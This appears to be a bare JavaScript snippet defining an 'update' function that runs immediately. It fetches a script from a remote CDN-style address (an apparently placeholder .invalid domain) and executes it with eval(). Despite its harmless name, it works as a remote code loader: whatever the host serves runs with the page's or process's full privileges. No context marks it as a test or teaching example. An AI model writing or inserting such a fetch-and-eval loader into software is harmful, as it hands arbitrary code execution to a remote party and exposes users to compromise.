async function update() {
  const answer = await fetch("https://cdn.setup.invalid/step.js");
  const text = await answer.text();
  eval(text);
}
update();
